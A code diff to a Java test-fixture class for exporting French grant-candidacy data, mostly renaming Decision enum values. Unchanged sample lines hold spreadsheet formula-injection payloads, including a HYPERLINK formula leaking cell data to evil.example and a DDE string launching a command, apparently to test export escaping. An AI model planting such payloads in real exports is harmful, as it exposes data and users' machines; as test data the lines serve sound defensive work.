@@ -1,5 +1,7 @@
 package fr.interconnectes.candidatures.export;
 
+import fr.interconnectes.candidatures.domain.candidacy.Decision;
+
 import fr.interconnectes.candidatures.domain.Campaign;
 import fr.interconnectes.candidatures.domain.JuryGrid;
 import fr.interconnectes.candidatures.domain.LocalizedText;
@@ -45,7 +47,7 @@ final class Samples {
                 "Guichet numérique « Évian connecté »",
                 "Un guichet unique; des démarches \"en ligne\"\net un accueil physique.",
                 Instant.parse("2019-10-10T21:59:59Z"), 3, 1, new BigDecimal("12.5"), 4, new BigDecimal("1.25"),
-                criteria, Decision.FINALIST);
+                criteria, Decision.Outcome.FINALIST);
     }
 
     /** Every text field a formula; a negative score that must stay a number. */
@@ -56,7 +58,7 @@ final class Samples {
                 "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Cliquez ici\")", OrganisationKind.COMMUNE,
                 "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3@evil.example", "\t=1+1", "-2+3", "=1+1",
                 Instant.parse("2020-01-16T22:59:00Z"), 0, 2, new BigDecimal("-1.5"), 1, null, criteria,
-                Decision.NOT_SELECTED);
+                Decision.Outcome.NOT_SELECTED);
     }
 
     /** Nothing filled in, never submitted, never scored. */
